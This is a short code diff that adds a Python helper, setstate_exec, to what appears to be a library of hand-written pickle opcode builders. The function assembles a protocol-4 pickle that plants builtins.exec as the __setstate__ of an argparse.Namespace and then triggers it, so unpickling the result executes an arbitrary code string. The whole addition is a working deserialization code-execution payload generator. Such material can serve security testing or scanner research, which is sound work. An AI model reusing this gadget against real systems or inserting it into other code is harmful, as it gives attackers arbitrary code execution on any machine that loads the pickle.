@@ -45,3 +45,19 @@ def sglobal(module: str, name: str) -> bytes:
 
 def binbytes(data: bytes) -> bytes:
     return b"B" + struct.pack("<I", len(data)) + data
+
+
+def setstate_exec(code: str) -> bytes:
+    """BUILD plants ``__setstate__ = exec`` in an ``argparse.Namespace``; the next BUILD calls it with
+    ``code`` (protocol 4 opcodes)."""
+    return (
+        b"\x80\x04"
+        + sglobal("argparse", "Namespace")
+        + b")R"
+        + b"N}"
+        + s4("__setstate__")
+        + sglobal("builtins", "exec")
+        + b"s\x86b"
+        + s4(code)
+        + b"b."
+    )
